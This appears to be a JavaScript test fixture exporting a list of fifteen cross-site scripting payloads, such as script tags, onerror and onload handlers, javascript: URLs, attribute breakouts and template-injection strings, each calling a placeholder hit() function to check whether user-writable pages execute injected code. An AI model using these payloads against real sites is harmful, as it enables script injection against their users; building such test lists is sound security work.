/** What has been tried on pages that let people write. */
export const vectors = [
  '<script>hit()</script>',
  '"><img src=x onerror=hit()>',
  "'-hit()-'",
  '</style><script>hit()</script>',
  '</title><svg/onload=hit()>',
  '</textarea><iframe srcdoc="<script>parent.hit()</script>">',
  'javascript:hit()',
  '<a href="javascript:hit()">x</a>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<!--<img src="--><img src=x onerror=hit()//">',
  '<math><mi xlink:href="data:x,<script>hit()</script>">',
  '\u2028hit()\u2029',
  '" autofocus onfocus=hit() x="',
  'url(javascript:hit())',
];
